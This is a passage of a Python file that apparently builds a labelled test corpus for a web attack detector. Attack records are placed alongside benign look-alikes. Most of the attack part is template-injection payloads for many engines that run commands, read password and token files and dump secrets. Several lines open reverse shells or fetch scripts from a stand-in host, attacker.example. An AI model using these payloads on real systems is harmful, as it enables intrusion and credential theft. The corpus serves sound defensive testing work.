    # Ruby ERB: backticks, Kernel, IO and File
    "<%= `id` %>",
    "<%= system('cat /etc/passwd') %>",
    "<%= IO.popen('id').readlines() %>",
    "<%= File.open('/etc/shadow').read %>",
    "<%= Dir.entries('/') %>",
    "<%= Kernel.send(:system, 'id') %>",
    # Erubi / Rails: <%== raw output; Erubis
    "<%== `uname -a` %>",
    # ERB trim_mode '%': a line beginning with % is Ruby
    "% system('id')\n",
    # Rails render inline: secrets and environment
    "<%= Rails.application.secrets.secret_key_base %>",
    "<%= ENV.to_h %>",
]

SMARTY: list[Entry] = [
    # Smarty 2 / SmartyBC: {php} blocks
    "{php}echo `id`;{/php}",
    # Smarty 3/4 without a security policy: PHP functions in tags
    "{system('id')}",
    "{if system('cat /etc/passwd')}{/if}",
    "{shell_exec('id')|escape}",
    # Smarty before 3.1.30: static internals
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}",
    "{self::getStreamVariable(\"file:///etc/passwd\")}",
    # Smarty CVEs: {function name} injection (CVE-2021-26120) and the math plugin (CVE-2021-29454)
    "{function name='x(){};system(\"id\");function '}{/function}",
    "{math equation=\"(\\\"\\163\\171\\163\\164\\145\\155\\\")(\\\"\\151\\144\\\")\"}",
    # file reads through resources
    "{include file='file:/etc/passwd'}",
    "{fetch file='file:///etc/passwd'}",
]

HB_RCE = "return process.mainModule.require('child_process').execSync('id');"
HANDLEBARS: list[Entry] = [
    # Handlebars.js before 4.6: Function constructor reached through string.sub
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}"
    "{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}"
    "{{this.push \"" + HB_RCE + "\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}"
    "{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
    "{{#with \"s\" as |string|}}\n  {{#with \"e\"}}\n    {{#with split as |conslist|}}\n      {{this.pop}}\n"
    "      {{this.push (lookup string.sub \"constructor\")}}\n      {{this.pop}}\n"
    "      {{#with string.split as |codelist|}}\n        {{this.pop}}\n"
    "        {{this.push \"return global.process.mainModule.constructor._load('child_process').execSync('id');\"}}\n"
    "        {{this.pop}}\n        {{#each conslist}}\n          {{#with (string.sub.apply 0 codelist)}}\n"
    "            {{this}}\n          {{/with}}\n        {{/each}}\n      {{/with}}\n    {{/with}}\n  {{/with}}\n"
    "{{/with}}",
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}"
    "{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}"
    "{{this.push \"return JSON.stringify(process.env);\"}}{{this.pop}}{{#each conslist}}"
    "{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
    # Handlebars 4.5.x: __lookupGetter__ / __defineGetter__ reachable
    "{{#with this as |o|}}{{#with (o.__lookupGetter__ \"__proto__\")}}{{#with (this.call o)}}"
    "{{this.constructor}}{{/with}}{{/with}}{{/with}}",
    # constructor lookups used to probe the prototype chain
    "{{lookup (lookup this \"constructor\") \"constructor\"}}",
    # Handlebars.java (jknack): getters on the context object
    "{{this.class.protectionDomain.codeSource.location}}",
]

PUG: list[Entry] = [
    # Pug: interpolation, unbuffered code, buffered code, unescaped buffered code, attribute expressions
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process')"
    ".exec('id')}()}",
    "- global.process.mainModule.require('child_process').exec('nc -e /bin/sh attacker.example 4444')",
    "= global.process.mainModule.require('child_process').execSync('id').toString()",
    "!= global.process.mainModule.require('child_process').execSync('cat /etc/passwd')",
    "p= process.env.SESSION_SECRET",
    "div(title=global.process.mainModule.require('child_process').execSync('id'))",
    # Pug include with an absolute path
    "include /etc/passwd",
    # Jade (pre-rename): the root object
    "- var x = root.process\n- x = x.mainModule.require\n- x = x('child_process')\n"
    "= x.exec('id | nc attacker.example 80')",
]

MAKO: list[Entry] = [
    # Mako: the template module's imports
    "${self.module.cache.util.os.system('id')}",
    "${self.module.runtime.util.os.popen('id').read()}",
    # Mako Python blocks: <% %> and module-level <%! %>
    "<% import os; x = os.popen('id').read() %>${x}",
    "<%! import subprocess %>${subprocess.check_output(['cat','/etc/passwd'])}",
    "${__import__('os').popen('id').read()}",
    # Mako namespace importing a Python module, and % control lines
    "<%namespace name=\"o\" module=\"os\"/>${o.system('id')}",
    "% for x in __import__('os').listdir('/'):\n${x}\n% endfor\n",
    "<%include file=\"/etc/passwd\"/>",
]

TORNADO: list[Entry] = [
    # Tornado templates: import, raw, set, apply, module
    "{% import os %}{{ os.popen('id').read() }}",
    "{% import subprocess %}{{ subprocess.check_output('id', shell=True) }}",
    "{{ __import__('os').system('id') }}",
    "{% raw __import__('os').popen('cat /etc/passwd').read() %}",
    "{% set x = __import__('subprocess').getoutput('id') %}{{ x }}",
    "{% apply __import__('os').system %}id{% end %}",
    # RequestHandler's settings: cookie_secret
    "{{ handler.settings }}",
    "{{ handler.application.settings['cookie_secret'] }}",
]

NUNJUCKS: list[Entry] = [
    # Nunjucks: Function constructor through the range, cycler and joiner globals
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{ cycler.constructor(\"return process.env\")() }}",
    "{{ joiner.constructor(\"return process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')\")() }}",
    "{% set p = range.constructor('return process')() %}{{ p.mainModule.require('child_process').execSync('id') }}",
    "{{ range.constructor('return global.process.mainModule.constructor._load(\"child_process\")"
    ".execSync(\"id\")')() }}",
    # Nunjucks on Windows
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('cmd /c dir')\")()}}",
    "{% include \"../../../../etc/passwd\" %}",
    "{{ cycler.constructor('return this.process.mainModule.require(\"fs\").readdirSync(\"/\")')() }}",
]

EJS: list[Entry] = [
    # EJS tags: escaped, unescaped, whitespace-slurping scriptlet, include
    "<%= process.mainModule.require('child_process').execSync('id') %>",
    "<%- global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>",
    "<%_ process.mainModule.require('child_process').exec('nc attacker.example 4444 -e sh') _%>",
    "<%- include('/etc/passwd') %>",
    "<%= this.constructor.constructor('return process')().env %>",
    # EJS before 3.1.7: render options from req.query (CVE-2022-29078); 3.1.7+: escapeFunction with client
    ("settings[view options][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s",
     "qs-raw", "rs-qs-raw"),
    ("settings[view options][client]=true&settings[view options][escapeFunction]=1;return process.mainModule"
     ".require('child_process').execSync('id');", "qs-raw", "rs-qs-raw"),
    # dejs (EJS on Deno) and EJS on Bun
    "<%= Deno.readTextFileSync('/etc/passwd') %>",
    "<%= Bun.spawnSync(['id']).stdout.toString() %>",
]

PEBBLE: list[Entry] = [
    # Pebble before 3.0.9: getClass on any variable
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
    # Pebble 3.0.9+: through Integer.TYPE
    "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null)"
    ".exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0]"
    ".newInstance(([bytes]).toArray()) }}",
    # Pebble in Spring: the beans map
    "{{ beans.get('dataSource').getConnection().getMetaData().getURL() }}",
    "{{ request.getServletContext().getClassLoader() }}",
    "{% include '../../../../../etc/passwd' %}",
    # Pebble 3.0.9+ one-liner and pre-3.0.9 reflection from a string literal
    "{{ (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec('touch /tmp/pb') }}",
    "{{ 'a'.getClass().forName('java.lang.System').getenv() }}",
]

RAZOR: list[Entry] = [
    # Razor on Windows (.NET Framework / RazorEngine): Process.Start and file reads
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\o.txt\")",
    "@{ System.Diagnostics.Process.Start(\"powershell.exe\", \"-c iwr http://attacker.example/p.ps1|iex\"); }",
    "@(System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\"))",
    "@using System.Diagnostics\n@Process.Start(\"calc.exe\")",
    # Razor on Linux (.NET Core / .NET 8)
    "@{var psi = new System.Diagnostics.ProcessStartInfo(\"/bin/bash\",\"-c id\"){RedirectStandardOutput=true};}"
    "@System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd()",
    "@System.IO.File.ReadAllText(\"/proc/self/environ\")",
    # @functions blocks and configuration secrets
    "@functions { public string X() { return System.Environment.GetEnvironmentVariable(\"ConnectionStrings__Db\"); }"
    " }@X()",
    "@AppDomain.CurrentDomain.GetAssemblies()",
]

GO_TEMPLATES: list[Entry] = [
    # Go text/template and html/template: dumping the context, defining templates
    "{{printf \"%#v\" .}}",
    "{{define \"T1\"}}<script>alert(document.cookie)</script>{{end}}{{template \"T1\"}}",
    "{{ .Request.Header }}",
    # Hugo
    "{{ readFile \"/etc/passwd\" }}",
    "{{ os.Getenv \"AWS_SECRET_ACCESS_KEY\" }}",
    # Helm / Sprig
    "{{ env \"AWS_SECRET_ACCESS_KEY\" }}",
    "{{ .Files.Get \"../../secrets.yaml\" }}",
    "{{ lookup \"v1\" \"Secret\" \"kube-system\" \"\" }}",
    # gomplate and consul-template
    "{{ file.Read \"/etc/passwd\" }}",
    "{{ plugin \"/bin/sh\" \"-c\" \"id\" }}",
    "{{ file \"/var/run/secrets/kubernetes.io/serviceaccount/token\" }}",
]

LIQUID: list[Entry] = [
    # Jekyll, liquidjs and Shopify Liquid: file inclusion through partials and layouts
    "{% include_relative ../../../../etc/passwd %}",
    "{% render '../../../../../etc/passwd' %}",
    "{% include '../../../../../../etc/shadow' %}",
    "{% layout '../../../../etc/passwd' %}",
    # Liquid resource exhaustion: nested ranges
    "{% for i in (1..100000000) %}{% for j in (1..100000000) %}x{% endfor %}{% endfor %}",
    # Shopify Liquid theme filters: a captured include shipped out base64-encoded
    "{% capture x %}{% include '/etc/hosts' %}{% endcapture %}{{ x | base64_encode }}",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("generic", "nodejs-injection", NODE_INJECTION),
    ("generic", "nodejs-dos", NODE_DOS),
    ("generic", "ssrf-cloud-metadata", SSRF_CLOUD),
    ("generic", "ssrf-internal-ip", SSRF_INTERNAL),
    ("generic", "javascript-prototype-pollution", POLLUTION),
    ("generic", "ruby-injection", RUBY),
    ("generic", "perl-injection", PERL),
    ("generic", "php-data-scheme", PHP_DATA),
    ("java", "java-class-names", JAVA_CLASSES),
    ("java", "java-process-spawn", JAVA_SPAWN),
    ("java", "java-serialization", JAVA_SERIAL),
    ("java", "java-deserialization-gadgets", GADGETS),
    ("java", "log4shell", LOG4SHELL),
    ("java", "expression-language", EXPRESSION_LANGUAGE),
    ("java", "polymorphic-deserialization", POLYMORPHIC),
    ("java", "class-loading", CLASS_LOADING),
    ("java", "jsp-upload", JSP_UPLOAD),
    ("ssti", "jinja2", JINJA2),
    ("ssti", "twig", TWIG),
    ("ssti", "freemarker", FREEMARKER),
    ("ssti", "velocity", VELOCITY),
    ("ssti", "thymeleaf", THYMELEAF),
    ("ssti", "erb", ERB),
    ("ssti", "smarty", SMARTY),
    ("ssti", "handlebars", HANDLEBARS),
    ("ssti", "pug", PUG),
    ("ssti", "mako", MAKO),
    ("ssti", "tornado", TORNADO),
    ("ssti", "nunjucks", NUNJUCKS),
    ("ssti", "ejs", EJS),
    ("ssti", "pebble", PEBBLE),
    ("ssti", "razor", RAZOR),
    ("ssti", "go-templates", GO_TEMPLATES),
    ("ssti", "liquid", LIQUID),
]

# ----------------------------------------------------------------------------------------------------------------
# Placements
URL_NAMES = ["url", "webhook", "avatar_url", "callback", "image_url", "feed"]
RS_URL_NAMES = ["url", "dest", "redirect", "uri", "target", "next"]
JSP_FILE = "<%= application.getServerInfo() %>"


class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    real_cycle = ["query", "form", "json", "header:User-Agent", "cookie", "xml", "multipart-field", "header:Referer",
                  "param-name", "path"]
    rs_cycle = ["rs-query", "rs-form", "rs-json", "rs-raw-body", "rs-xml", "rs-header:User-Agent", "rs-cookie",
                "rs-header:X-Test-Header", "rs-header:Referer", "rs-param-name"]
    names = ["q", "name", "template", "filter", "message", "data", "sort", "callback", "subject"]
    rs_paths = [*RS_PATHS, "/app/render"]
    rs_names = ["foo", "var", "x", "test", "id", "arg1", "input"]
    boundary = "----WebKitFormBoundaryq3Zb8dXv1LmT0aPe"
    upload = JSP_FILE
    form_accept = "*/*"
    documents = True   # XStream, XMLDecoder, SOAP and MLet payloads are the document

    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
        if self.is_latin(sub, payload):   # bytes: only percent-encoded carriers
            return ["query", "form", "param-name"], ["rs-query", "rs-form", "rs-raw-body"]
        return self.real_cycle, self.rs_cycle

    def name(self, category: str, sub: str, k: int) -> str:
        names = URL_NAMES if sub.startswith("ssrf-") else self.names
        return names[k % len(names)]

    def rs_name(self, category: str, sub: str, k: int) -> str:
        names = RS_URL_NAMES if sub.startswith("ssrf-") else self.rs_names
        return names[k % len(names)]

    def is_latin(self, sub: str, payload: str) -> bool:
        return any(ord(ch) > 0x7E or ord(ch) < 0x20 and ch not in "\r\n\t" for ch in payload)

    def _p_query_pre(self, p: Put) -> Record:   # already percent-encoded
        return _get("/api/users?" + p.name + "=" + p.v + self.tail)

    def _p_qs_raw(self, p: Put) -> Record:
        return _get("/api/users?" + self._raw(p) + self.tail)

    def _p_form_raw(self, p: Put) -> Record:
        return self._p_form(p._replace(raw=True))

    def _p_multipart_content(self, p: Put) -> Record:
        body = self.multipart([("csrf_token", "t0k3n", None), ("file", p.v, "users.jsp")])
        return request("POST", "/admin/users/import", body, self.multipart_type)

    def _p_rs_query_pre(self, p: Put) -> Record:
        return request("GET", p.path + "?" + p.name + "=" + p.v)

    def _p_rs_qs_raw(self, p: Put) -> Record:
        return request("GET", p.path + "?" + self._raw(p))

    def _p_rs_form_raw(self, p: Put) -> Record:
        return self._p_rs_form(p._replace(raw=True))

    def _p_rs_path(self, p: Put) -> Record:
        return request("GET", p.path.rstrip("/") + "/" + enc(p.v, p.latin) + "/index.action")

    def _p_rs_multipart_content(self, p: Put) -> Record:
        target = self.rs_upload if p.path in ("/", "/get", "/search") else p.path
        return request("POST", target, self.multipart([("upload", p.v, "shell.jsp")]), self.multipart_type)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same product names, keywords and syntax, typed innocently (chat and bios, searches, admin notes,
# links to advisories and docs, profiles, uploads, ordinary headers)
CHAT = [
    "Node 22 upgrade is merged, CI is green on all three runners",
    "anyone else seeing slow `npm ci` on the Windows agents since Tuesday?",
    "Deno 2 changed the permission flags, our deploy script needs --allow-net again",
    "we tried Bun for the test runner, about 4x faster than jest on the api package",
    "the worker uses child processes for the PDF export, not threads",
    "reminder: process.env is read once at boot, restart the pod after changing secrets",
    "can someone review my PR that swaps the hand-rolled regex for a proper email validator?",
    "the search box hung because of a bad regex in the tag filter, fixed in 3.4.1",
    "memory spiked to 2 GB on the export job, I think it buffers the whole CSV",
    "who owns the IMDSv2 migration? the launch template still allows v1",
    "GKE nodes can't reach metadata.google.internal after the network policy change",
    "Azure managed identity works now, the token comes back from the metadata endpoint",
    "the webhook URL field now rejects private IPs, customers with on-prem Jira need an allow-list",
    "localhost:8080 is the admin UI on your laptop, not in staging",
    "added a test for the URL validator: decimal and octal IPs are rejected",
    "prototype pollution advisory for lodash again? we're on 4.17.21 already",
    "switched the merge helper to structuredClone, no more deep-merge library",
    "Ruby 3.3 deprecates Kernel#open with a pipe, rubocop flagged two spots in the old rake tasks",
    "rails 7.1 upgrade done, ERB templates didn't need changes",
    "YAML.safe_load everywhere now, Psych 4 made YAML.load safe by default anyway",
    "the Perl CGI scripts on the legacy box still run, nobody dares touch them",
    "Perl 5.36 is on the build image; Raku is not, sorry Marta",
    "PHP 8.3 on staging, the data: URI for the inline logo still renders",
    "Log4j 2.17.1 is on every service now, closing the log4shell ticket",
    "the scanner still flags log4j-1.2.17.jar in the archived batch job, it's not deployed",
    "Jackson 2.17 upgrade went fine, default typing stays disabled",
    "fastjson is gone from the payments service, fastjson2 with autoType off",
    "XStream got bumped to 1.4.20 by dependabot, tests pass",
    "the Struts 2 app is finally retired, redirect is in place",
    "Spring Boot 3.2 migration: javax to jakarta imports took most of the day",
    "SpEL in @Value annotations only, please don't evaluate user input with it",
    "Groovy scripts in Jenkins need admin approval now, sandbox is on",
    "Kotlin coroutines rewrite of the sync worker is in review",
    "Scala 3 build of the analytics job compiles, sbt took forever",
    "ProcessBuilder for the ffmpeg call now has a timeout, no more zombie processes",
    "the class loader leak after hot redeploy in Tomcat is gone with the new JDBC driver",
    "jsp pages are dead in our stack, everything is Thymeleaf now",
    "upload filter: .jsp, .jspx, .war and .php are rejected server side",
    "jinja2 3.1.4 is pinned, the sandbox stays on for customer email templates",
    "the Flask app's `{{ user.name }}` placeholder shows raw in the preview, missing context var",
    "Twig 3 upgrade: `|raw` is only used in the admin footer",
    "FreeMarker templates for invoices live in /templates/invoices, ask before editing",
    "Velocity macro #set($total = 0) stopped working after the 2.3 upgrade, investigating",
    "Thymeleaf th:text vs th:utext: always th:text unless you sanitised it",
    "ERB partial for the footer is cached now, deploy to see the new links",
    "Smarty 4 on the shop, {$smarty.now|date_format} still works",
    "Handlebars helpers for currency formatting are in helpers/money.js",
    "Pug indentation broke the newsletter template again, tabs vs spaces",
    "Mako templates in the Pyramid app get the request object, not the session",
    "Tornado 6.4 is fine, the template autoescape default did not change",
    "nunjucks filters for dates are in lib/filters.js, use `| date('YYYY-MM-DD')`",
    "EJS views: `<%= title %>` escapes, `<%- body %>` does not, keep it that way",
    "Pebble is what the Java mailer uses, same syntax as Twig mostly",
    "Razor pages demo for the .NET team on Friday at 3",
    "Go templates in the Helm chart: `{{ .Values.image.tag }}` is empty in staging",
    "Hugo docs site builds again, the readFile shortcode path was wrong",
    "Liquid in the Shopify theme: `{{ product.title }}` shows on the card now",
    "Jekyll blog upgrade to 4.3 done, include_relative still works",
    "our Slack bot replies with the release notes link from the changelog",
    "pentest report came in: one SSRF finding on the image proxy, fixed already",
    "CVE-2021-44228 retro is on the wiki, thanks everyone",
    "the WAF blocked a customer's curl from a Perl script, UA libwww-perl, we allow-listed the IP",
    "Ruby Okafor joined the platform team today, say hi",
    "Jade from finance asked for the usage export as CSV",
    "Pearl is covering support this weekend",
    "thanks Django folks, the Jinja migration guide was useful",
    "is the `169.254.169.254` route blocked from the build containers? security asked",
    "the JSON body for the import API is `{\"users\": [...], \"dry_run\": true}`",
    "I set `NODE_OPTIONS=--max-old-space-size=4096` for the build, the bundler was OOMing",
    "the regex backtracking issue is tracked as a DoS bug in the parser lib, patch next sprint",
    "docs: the __proto__ key is stripped by our JSON parser, see ADR-12",
    "constructor injection in Spring is preferred over field injection, per the style guide",
    "serialization of the session uses JSON now, no Java serialization anywhere",
    "the base64 in that log line is just the avatar thumbnail, not a secret",
    "OGNL came up in the Confluence patch notes, Atlassian says upgrade to 7.18.1",
    "the Groovy console in Jenkins is admin-only, audit log checked",
    "running `bundle exec rake db:migrate` on prod at 18:00",
    "perl -pi -e 's/old/new/g' on the config files is how we did it in 2015",
    "`kubectl get secrets` is denied for the app service account, as intended",
    "template preview now renders `{{ first_name }}` with sample data",
    "Azure, AWS and GCP metadata endpoints are blocked by egress policy, documented in runbook",
    "the Lambda runtime API only listens inside the sandbox, nothing to expose",
    "the perf test with 10k users took 14 minutes, mostly the bcrypt cost",
]

SEARCHES = [
    "log4j", "log4shell", "jinja2", "jinja", "twig", "freemarker", "velocity", "thymeleaf", "erb", "smarty",
    "handlebars", "pug", "mako", "tornado", "nunjucks", "ejs", "pebble", "razor", "go templates", "liquid",
    "node.js", "deno", "bun", "ruby", "perl", "php 8", "java 21", "groovy", "kotlin", "scala", "spring boot",
    "struts", "jackson", "fastjson", "xstream", "metadata", "prototype", "constructor", "Ruby Okafor", "Jade Moreau",
]

PROSE = [
    "Ticket 4412: customer's Jinja2 email template shows {{ first_name }} literally, context missing",
    "Customer asks whether we are affected by Log4Shell. Answer: no, we run Log4j 2.17.1 and Python services",
    "Refund approved for the Velocity Fitness account, duplicate invoice in March",
    "Customer on Node 18 gets ERR_REQUIRE_ESM from our SDK, suggested the CommonJS build",
    "Webhook test to http://localhost:3000 fails from our cloud, told them to use a tunnel",
    "Escalated: image import from an internal 10.x URL rejected, expected behaviour, explained the policy",
    "Customer reports Thymeleaf error 'Could not parse as expression' in their own template, not our bug",
    "Spring4Shell question from the auditor; we are on Spring 6.1 and JDK 21, closed",
    "Ruby SDK 2.3.0 released with Ruby 3.3 support",
    "Perl client library deprecated, announcement drafted for the newsletter",
    "Customer uses Handlebars partials in their export template, pointed to docs",
    "Security questionnaire: Java deserialization not used; JSON only, no polymorphic typing",
    "The Twig template of the partner portal uses |date('d.m.Y'), looks right",
    "ERB footer updated with the new office address",
    "EJS migration of the marketing pages is on hold until Q3",
    "Go service uses html/template for the status page, auto-escaping on",
    "Liquid snippet for the Shopify store shows the wrong currency, fixed the filter",
    "Customer on Deno Deploy asks for an ESM build of the client, added to roadmap",
    "Bun compatibility tested: SDK works on Bun 1.1",
    "Razor view of the .NET sample app updated to .NET 8",
    "Mako and Tornado support in the Python SDK examples removed, nobody used them",
    "Pebble template for the Java mailer: {{ user.firstName }} renders fine in staging",
    "SSRF finding from last year's pentest re-tested, still fixed",
    "Prototype pollution in a frontend dependency, patched in release 4.12.3",
    "Customer asked for IP allow-list including 169.254 range, declined, link-local is not routable",
    "Groovy DSL for the old build removed, Gradle Kotlin DSL only",
    "Smarty templates of the legacy shop will be rewritten in Twig",
    "Freemarker invoice layout: page break after the totals table",
    "Struts app retirement completed, DNS points to the new portal",
    "Data URI for the signature image is 48 KB, asked marketing for a smaller PNG",
]

URLS = [
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://nvd.nist.gov/vuln/detail/CVE-2021-44228",
    "https://spring.io/security/cve-2022-22965",
    "https://github.com/FasterXML/jackson-databind/wiki/Jackson-Release-2.17",
    "https://jinja.palletsprojects.com/en/3.1.x/sandbox/",
    "https://twig.symfony.com/doc/3.x/filters/map.html",
    "https://freemarker.apache.org/docs/ref_builtins_expert.html",
    "https://velocity.apache.org/engine/2.3/user-guide.html",
    "https://www.thymeleaf.org/doc/tutorials/3.1/usingthymeleaf.html",
    "https://handlebarsjs.com/guide/expressions.html",
    "https://pugjs.org/language/code.html",
    "https://docs.makotemplates.org/en/latest/syntax.html",
    "https://www.tornadoweb.org/en/stable/template.html",
    "https://mozilla.github.io/nunjucks/templating.html",
    "https://pebbletemplates.io/wiki/guide/basic-usage/",
    "https://learn.microsoft.com/en-us/aspnet/core/mvc/views/razor",
    "https://pkg.go.dev/text/template",
    "https://shopify.github.io/liquid/basics/introduction/",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-instance-metadata-service.html",
    "https://cloud.google.com/compute/docs/metadata/overview",
    "https://nodejs.org/api/child_process.html",
    "https://docs.deno.com/runtime/fundamentals/security/",
    "https://bun.sh/docs/runtime/shell",
    "https://perldoc.perl.org/functions/open",
    "https://www.php.net/manual/en/wrappers.data.php",
]

PROFILES = [
    ("Ruby Okafor", "14 Perl Street, Leeds LS2 7EY"),
    ("Jade Moreau", "3 Rue de la Liquidité, 69002 Lyon"),
    ("Pearl Nakamura", "2-4-1 Shibuya, Tokyo"),
    ("Velocity Fitness Ltd", "Unit 5, Spring Gardens, Manchester M2 1FB"),
    ("Java House Coffee", "88 Bean Lane, Portland OR 97205"),
    ("Mako Ramirez", "Av. Tornado 221, Buenos Aires"),
    ("Thyme & Sage Catering", "Twig Road 12, Dublin D08"),
    ("Groovy Records", "Kotlin Way 7, Berlin 10115"),
    ("Scala Consulting SRL", "Via della Scala 21, Firenze"),
    ("Node Street Bakery", "Node Street 9, Bristol BS1"),
    ("Liquid Studio GmbH", "Pebblestraße 4, Hamburg"),
    ("Razorbill Outdoor", "1 Handlebar Close, Cambridge CB1"),
    ("Deno Mwangi", "Moi Avenue 40, Nairobi"),
    ("Struts & Braces Ltd", "Jackson Road 17, Glasgow G1"),
    ("Bun Thai Kitchen", "55 Metadata Court, Reading RG1"),
]

UPLOAD_NAMES = [
    "log4j2-migration-notes.pdf", "jinja2_cheatsheet.png", "twig-vs-blade.docx", "velocity-templates-backup.zip",
    "Thymeleaf_layouts.pptx", "node-v22-release-notes.md", "metadata-service-diagram.png", "ruby-3.3-upgrade.xlsx",
    "perl_cgi_inventory.csv", "jackson-databind-2.17-changelog.txt", "struts2-retirement-plan.pdf",
    "liquid-theme-v4.zip", "helm-chart-values.yaml", "fastjson2-migration.md", "razor_pages_demo.zip",
]

BENIGN_HEADERS = [
    ("Referer", "https://logging.apache.org/log4j/2.x/security.html"),
    ("Referer", "https://jinja.palletsprojects.com/en/3.1.x/templates/"),
    ("Referer", "https://www.google.com/search?q=jackson+default+typing+disable"),
    ("User-Agent", "Apache-HttpClient/4.5.14 (Java/17.0.10)"),
    ("User-Agent", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)"),
    ("User-Agent", "Deno/1.44.4"),
    ("User-Agent", "Bun/1.1.13"),
    ("User-Agent", "Ruby"),
    ("User-Agent", "libwww-perl/6.72"),
    ("User-Agent", "Go-http-client/1.1"),
    ("Accept-Language", "de-DE,de;q=0.9,en;q=0.8"),
    ("X-Request-Id", "0f8e2c8a-5d1b-4c7e-9a43-2b6f1d9e7c10"),
    ("Cookie", "session=abc123; editor=twig; theme=dark"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
